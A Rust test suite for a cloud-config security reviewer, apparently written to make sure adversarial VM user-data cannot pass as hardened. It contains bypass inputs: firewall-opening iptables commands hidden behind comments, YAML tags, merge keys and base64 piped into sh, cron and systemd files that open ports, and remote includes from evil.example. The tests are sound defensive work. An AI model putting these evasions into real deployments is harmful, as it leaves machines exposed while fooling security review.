//! Adversarial cloud-configs: every way found to make the analysis call a VM hardened while it is not
//! (or to hide what it runs). Each one must fail `cloudconfig.template` (the text is not the trusted
//! template) and must not pass the analysis: what it cannot interpret is "uninspectable" and fails all
//! four analysis checks. The base is the demo's good VM, which passes all five.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeMap;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use tokendist_core::checks::{
    CLOUDCONFIG_IMAGE_PINNED, CLOUDCONFIG_IMAGE_TRUSTED, CLOUDCONFIG_SERIAL_DISABLED,
    CLOUDCONFIG_SSH_DISABLED, CLOUDCONFIG_TEMPLATE, REVIEW_CHECKS,
};
use tokendist_core::cloudconfig::TemplateSettings;
use tokendist_core::policy::review_user_data;
use tokendist_core::settings::Settings;
use tokendist_core::verdict::{CheckResult, Outcome};

const SSH_LINE: &str = "- iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n";
const RUNCMD: &str = "runcmd:\n- systemctl daemon-reload\n- systemctl start tokenclient.service\n";

fn repo_file(path: &str) -> String {
    std::fs::read_to_string(format!("{}/../{path}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

fn good() -> String {
    repo_file("sim/scenarios/tokenclient-good.cloud-config.yaml")
}

/// The demo's settings, with the template text read as the console would.
fn settings() -> Settings {
    let mut settings: Settings =
        toml::from_str(&repo_file("sim/scenarios/demo-settings.toml")).unwrap();
    let template = settings.cloud_config_template.as_mut().unwrap();
    template.text = Some(repo_file("dist/cloud-config/tokenclient.template.yaml"));
    settings.validate().unwrap();
    settings
}

fn failed(results: &[CheckResult]) -> Vec<&str> {
    results
        .iter()
        .filter(|c| c.is_fail())
        .map(|c| c.name.as_str())
        .collect()
}

fn reason<'a>(results: &'a [CheckResult], name: &str) -> &'a str {
    match &results.iter().find(|c| c.name == name).unwrap().outcome {
        Outcome::Fail(reason) => reason,
        other => panic!("{name}: {other:?}"),
    }
}

/// The bypass fails the template and is uninspectable: every review check fails.
fn assert_uninspectable(text: &str, expected_in_reason: &str) {
    let results = review_user_data(text, &settings());
    assert_eq!(failed(&results), REVIEW_CHECKS, "{results:#?}");
    let why = reason(&results, CLOUDCONFIG_SSH_DISABLED);
    assert!(why.contains("uninspectable"), "{why}");
    assert!(why.contains(expected_in_reason), "{why}");
}

fn with_ssh_line(replacement: &str) -> String {
    let text = good();
    assert!(text.contains(SSH_LINE));
    text.replace(SSH_LINE, replacement)
}

fn with_runcmd(replacement: &str) -> String {
    let text = good();
    assert!(text.contains(RUNCMD));
    text.replace(RUNCMD, replacement)
}

#[test]
fn the_demo_good_vm_passes_all_five_and_the_tampered_one_fails_the_template_naming_line_34_and_its_value()
 {
    let results = review_user_data(&good(), &settings());
    assert!(results.iter().all(CheckResult::is_pass), "{results:#?}");
    let tampered = repo_file("sim/scenarios/tokenclient-tampered.cloud-config.yaml");
    let results = review_user_data(&tampered, &settings());
    assert_eq!(
        failed(&results),
        [
            CLOUDCONFIG_TEMPLATE,
            CLOUDCONFIG_IMAGE_PINNED,
            CLOUDCONFIG_IMAGE_TRUSTED
        ]
    );
    let why = reason(&results, CLOUDCONFIG_TEMPLATE);
    assert!(
        why.contains(
            "line 34: the value \"us-docker.pkg.dev/bob-project/tokendist/tokenclient:latest\" of hole `{{image_repository}}`"
        ),
        "{why}"
    );
}

#[test]
fn no_template_configured_fails_the_template_check_saying_how_to_configure_one() {
    let settings = Settings {
        cloud_config_template: None,
        ..settings()
    };
    let results = review_user_data(&good(), &settings);
    assert_eq!(failed(&results), [CLOUDCONFIG_TEMPLATE]);
    let why = reason(&results, CLOUDCONFIG_TEMPLATE);
    assert!(why.contains("[cloud_config_template]"), "{why}");
    assert!(why.contains("--force --reason"), "{why}");
}

#[test]
fn a_hole_value_that_breaks_its_pattern_is_named() {
    let text = good().replace("tokenserver.alice.example:50051", "evil.example:50051");
    let results = review_user_data(&text, &settings());
    assert_eq!(failed(&results), [CLOUDCONFIG_TEMPLATE]);
    let why = reason(&results, CLOUDCONFIG_TEMPLATE);
    assert!(
        why.contains("line 10: the value \"evil.example:50051\" of hole `{{server_address}}`"),
        "{why}"
    );
}

#[test]
fn bad_hole_patterns_are_a_settings_error() {
    let mut settings = settings();
    let template = settings.cloud_config_template.as_mut().unwrap();
    template
        .holes
        .insert("image_digest".to_owned(), "sha256:[0-9a-f".to_owned());
    let err = settings.validate().unwrap_err().to_string();
    assert!(err.contains("image_digest"), "{err}");
    let settings = Settings {
        cloud_config_template: Some(TemplateSettings {
            path: None,
            text: None,
            holes: BTreeMap::new(),
        }),
        ..Settings::default()
    };
    assert!(settings.validate().is_err());
}

#[test]
fn a_comment_inside_a_bootcmd_entry_is_not_hardening() {
    assert_uninspectable(
        &with_ssh_line("- \"true # ; iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\"\n"),
        "a comment",
    );
}

#[test]
fn a_comment_yaml_keeps_unquoted_is_not_hardening() {
    assert_uninspectable(
        &with_ssh_line("- true;#;iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n"),
        "a comment",
    );
}

#[test]
fn a_comment_inside_sh_c_is_not_hardening() {
    assert_uninspectable(
        &with_ssh_line(
            "- [sh, -c, \"true # ; iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\"]\n",
        ),
        "a comment",
    );
}

#[test]
fn hardening_after_and_and_never_runs_when_the_first_command_fails() {
    let text = with_ssh_line("- false && iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n");
    let results = review_user_data(&text, &settings());
    assert_eq!(
        failed(&results),
        [CLOUDCONFIG_TEMPLATE, CLOUDCONFIG_SSH_DISABLED]
    );
}

#[test]
fn a_merge_key_hides_commands() {
    assert_uninspectable(
        &with_runcmd(
            "<<: {runcmd: [systemctl daemon-reload, systemctl start tokenclient.service, iptables -P INPUT ACCEPT]}\n",
        ),
        "merge key",
    );
}

#[test]
fn a_merge_key_inside_write_files_hides_content() {
    let text = format!(
        "{}write_files:\n- <<: {{path: /etc/tokendist/x, content: y}}\n",
        good().replacen("write_files:\n", "x_files:\n", 1)
    );
    let results = review_user_data(&text, &settings());
    assert_eq!(failed(&results), REVIEW_CHECKS);
}

#[test]
fn anchors_and_aliases_are_uninspectable() {
    assert_uninspectable(
        &good()
            .replace("bootcmd:\n", "bootcmd: &hardening\n")
            .replace(RUNCMD, "runcmd: *hardening\n"),
        "anchor",
    );
}

#[test]
fn a_binary_tag_hides_file_content() {
    let unit = STANDARD.encode("[Service]\nExecStart=/usr/sbin/iptables -P INPUT ACCEPT\n");
    assert_uninspectable(
        &good().replacen(
            "write_files:\n",
            &format!("write_files:\n- path: /etc/systemd/system/open.service\n  content: !!binary |\n    {unit}\n"),
            1,
        ),
        "tag",
    );
}

#[test]
fn a_custom_tag_is_uninspectable() {
    assert_uninspectable(
        &with_ssh_line("- !shell iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n"),
        "tag",
    );
}

#[test]
fn a_second_document_is_uninspectable() {
    assert_uninspectable(
        &format!("{}---\nruncmd:\n- iptables -P INPUT ACCEPT\n", good()),
        "document marker",
    );
}

#[test]
fn include_boothook_and_mime_parts_are_not_cloud_configs() {
    for text in [
        "#include\nhttps://evil.example/cloud-config\n".to_owned(),
        "#include-once\nhttps://evil.example/cloud-config\n".to_owned(),
        "#cloud-boothook\n#!/bin/sh\niptables -P INPUT ACCEPT\n".to_owned(),
        "Content-Type: multipart/mixed; boundary=\"x\"\nMIME-Version: 1.0\n\n--x\nContent-Type: text/cloud-config\n\n".to_owned() + &good(),
        "## template: jinja\n".to_owned() + &good(),
        "#cloud-config-archive\n- type: text/x-shellscript\n  content: iptables -P INPUT ACCEPT\n".to_owned(),
    ] {
        let results = review_user_data(&text, &settings());
        assert_eq!(failed(&results), REVIEW_CHECKS, "{text}");
    }
}

#[test]
fn an_unknown_module_is_uninspectable() {
    assert_uninspectable(
        &format!(
            "{}users:\n- name: bob\n  ssh_authorized_keys: [ssh-ed25519 AAAA bob]\n",
            good()
        ),
        "only the modules write_files, bootcmd and runcmd",
    );
}

#[test]
fn command_substitution_hides_the_port() {
    assert_uninspectable(
        &format!(
            "{}- iptables -A INPUT -p tcp --dport $(echo 22) -j ACCEPT\n",
            good()
        ),
        "expansion",
    );
}

#[test]
fn backticks_hide_the_port() {
    assert_uninspectable(
        &format!(
            "{}- iptables -A INPUT -p tcp --dport `echo 22` -j ACCEPT\n",
            good()
        ),
        "expansion",
    );
}

#[test]
fn a_variable_hides_the_port() {
    assert_uninspectable(
        &format!(
            "{}- \"P=22; iptables -A INPUT -p tcp --dport \\\"$P\\\" -j ACCEPT\"\n",
            good()
        ),
        "",
    );
}

#[test]
fn a_pipe_into_a_shell_hides_the_command() {
    let script = STANDARD.encode("iptables -P INPUT ACCEPT");
    assert_uninspectable(
        &format!("{}- echo {script} | base64 -d | sh\n", good()),
        "`sh` runs commands",
    );
}

#[test]
fn a_here_document_hides_the_command() {
    assert_uninspectable(
        &format!(
            "{}- |\n  sh <<EOF\n  iptables -P INPUT ACCEPT\n  EOF\n",
            good()
        ),
        "here-document",
    );
}

#[test]
fn a_line_continuation_splits_the_port() {
    assert_uninspectable(
        &format!(
            "{}- |\n  iptables -A INPUT -p tcp --dport 2\\\n  2 -j ACCEPT\n",
            good()
        ),
        "line continuation",
    );
}

#[test]
fn a_shell_keyword_hides_the_command() {
    assert_uninspectable(
        &format!(
            "{}- if true; then iptables -A INPUT -p tcp --dport 22 -j ACCEPT; fi\n",
            good()
        ),
        "shell keyword",
    );
}

#[test]
fn a_program_runner_hides_the_command() {
    assert_uninspectable(
        &format!("{}- env iptables -P INPUT ACCEPT\n", good()),
        "`env` runs commands",
    );
}

#[test]
fn a_yaml_1_1_octal_port_in_a_list_form_command_is_uninspectable() {
    // cloud-init's YAML 1.1 reads 026 as octal 22; serde_yaml does not.
    assert_uninspectable(
        &format!(
            "{}- [iptables, -A, INPUT, -p, tcp, --dport, 026, -j, ACCEPT]\n",
            good()
        ),
        "YAML 1.1",
    );
}

#[test]
fn gzip_content_is_uninspectable() {
    assert_uninspectable(
        &good().replacen(
            "  permissions: 0644\n",
            "  permissions: 0644\n  encoding: gz+b64\n",
            1,
        ),
        "gz+b64-encoded content",
    );
}

#[test]
fn remote_and_deferred_write_files_are_uninspectable() {
    for extra in [
        "  source:\n    uri: https://evil.example/unit\n",
        "  defer: true\n",
        "  append: true\n",
    ] {
        assert_uninspectable(
            &good().replacen(
                "  permissions: 0644\n",
                &format!("  permissions: 0644\n{extra}"),
                1,
            ),
            "remote, deferred or appended content",
        );
    }
}

#[test]
fn base64_content_that_is_not_utf8_is_uninspectable() {
    let bytes = STANDARD.encode([0xff_u8, 0xfe, b'\n']);
    assert_uninspectable(
        &good().replacen(
            "write_files:\n",
            &format!(
                "write_files:\n- path: /etc/tokendist/blob\n  encoding: b64\n  content: {bytes}\n"
            ),
            1,
        ),
        "not UTF-8",
    );
}

#[test]
fn a_file_that_something_else_runs_is_uninspectable() {
    assert_uninspectable(
        &good().replacen(
            "write_files:\n",
            "write_files:\n- path: /etc/cron.d/open\n  content: |\n    * * * * * root iptables -P INPUT ACCEPT\n",
            1,
        ),
        "could be run by something",
    );
}

#[test]
fn an_expansion_in_a_systemd_exec_line_is_uninspectable() {
    assert_uninspectable(
        &good().replacen(
            "ExecStop=/usr/bin/docker stop tokenclient",
            "ExecStop=/usr/sbin/iptables -A INPUT -p tcp --dport ${PORT} -j ACCEPT",
            1,
        ),
        "systemd command",
    );
}

#[test]
fn hardening_after_or_never_runs_when_the_first_command_succeeds() {
    let text = good().replace(
        "- systemctl mask --now serial-getty@ttyS0.service\n",
        "- true || systemctl mask --now serial-getty@ttyS0.service\n",
    );
    let results = review_user_data(&text, &settings());
    assert_eq!(
        failed(&results),
        [CLOUDCONFIG_TEMPLATE, CLOUDCONFIG_SERIAL_DISABLED]
    );
}
